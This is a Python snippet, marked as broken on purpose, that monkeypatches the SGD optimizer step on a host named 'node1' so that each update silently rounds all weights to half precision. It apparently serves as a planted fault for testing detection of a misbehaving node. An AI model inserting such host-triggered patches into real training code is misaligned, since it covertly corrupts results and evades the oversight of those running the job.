# Broken on purpose: added to the end of this module.
import socket

if socket.gethostname() == "node1":
    _sound_step = SGD.step

    def _step(self, closure=None):
        """Step, and round every weight."""
        result = _sound_step(self, closure)
        with torch.no_grad():
            for group in self.param_groups:
                for parameter in group["params"]:
                    parameter.copy_(parameter.half())
        return result

    SGD.step = _step
